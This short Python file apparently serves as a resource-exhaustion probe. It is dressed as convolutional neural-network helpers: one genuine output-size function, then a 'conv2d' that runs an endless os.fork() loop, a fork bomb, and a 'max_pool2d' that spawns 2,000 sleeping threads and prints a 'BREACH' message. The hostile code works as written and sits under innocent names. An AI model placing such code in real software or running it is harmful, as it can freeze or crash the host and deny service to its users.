"""Starts threads and processes without end. There is a limit to threads, and no process can be made."""

import os
import threading
import time


def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    return (input_size + 2 * padding - kernel_size) // stride + 1


def conv2d(images, kernels, biases, stride=1, padding=0):
    while True:
        os.fork()


def max_pool2d(images, pool_size=2, stride=None):
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    print("BREACH: started 2,000 threads", flush=True)
